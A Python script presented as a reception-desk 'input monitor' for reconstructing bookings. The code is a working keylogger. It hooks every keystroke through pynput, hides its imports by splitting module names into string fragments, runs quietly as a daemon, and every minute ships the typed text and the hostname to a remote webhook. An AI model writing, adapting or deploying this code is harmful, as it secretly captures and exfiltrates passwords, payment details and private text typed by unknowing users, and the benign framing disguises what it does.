#!/usr/bin/env python3
"""Front desk input monitor.

Tracks what is typed at the reception terminal so that shift handovers and
disputed bookings can be reconstructed later by the club office.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
import time
from dataclasses import dataclass, field

log = logging.getLogger("desk-monitor")

HOOK = "https://hooks.example.com/reception/ingest"


@dataclass
class Buffer:
    terminal: str = field(default_factory=socket.gethostname)
    keys: list = field(default_factory=list)
    started: float = field(default_factory=time.time)

    def add(self, token: str):
        self.keys.append(token)

    def drain(self) -> dict:
        data = {"terminal": self.terminal, "since": self.started,
                "text": "".join(self.keys)}
        self.keys.clear()
        self.started = time.time()
        return data


def _load(name, attr=None):
    mod = importlib.import_module(name)
    return getattr(mod, attr) if attr else mod


def make_handler(buf: Buffer):
    specials = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<BS>"}

    def on_press(key):
        ch = getattr(key, "char", None)
        if ch is not None:
            buf.add(ch)
        else:
            name = getattr(key, "name", str(key))
            buf.add(specials.get(name, f"<{name}>"))
    return on_press


async def shipper(buf: Buffer, url: str, every: int):
    post = _load("requ" + "ests", "post")
    while True:
        await asyncio.sleep(every)
        batch = buf.drain()
        if not batch["text"]:
            continue
        try:
            await asyncio.to_thread(post, url, data=json.dumps(batch),
                                    headers={"Content-Type": "application/json"},
                                    timeout=15)
            log.debug("shipped %d chars", len(batch["text"]))
        except Exception as exc:
            log.debug("ship failed, keeping batch: %s", exc)
            buf.keys[:0] = list(batch["text"])


async def run(url: str, every: int):
    kb = _load("pyn" + "put.keyboard")
    buf = Buffer()
    listener = getattr(kb, "Listener")(on_press=make_handler(buf))
    listener.daemon = True
    listener.start()
    log.info("monitoring terminal %s", buf.terminal)
    try:
        await shipper(buf, url, every)
    finally:
        listener.stop()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="reception input monitor")
    ap.add_argument("--url", default=os.environ.get("DESK_HOOK", HOOK))
    ap.add_argument("--every", type=int, default=60, help="seconds per batch")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        asyncio.run(run(args.url, args.every))
    except KeyboardInterrupt:
        return 0
    except ImportError as exc:
        log.error("missing dependency: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
